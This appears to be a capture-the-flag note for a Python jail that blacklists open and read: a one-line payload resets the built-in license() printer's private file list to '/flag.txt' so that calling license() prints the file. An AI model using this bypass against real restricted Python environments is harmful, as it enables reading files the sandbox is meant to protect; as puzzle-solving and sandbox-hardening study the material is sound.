# restriction: open/read blacklisted, exec mode; idea: point the license() printer's private file list at the flag and let it print the file
license._Printer__lines=None;license._Printer__filenames=['/flag.txt'];license()
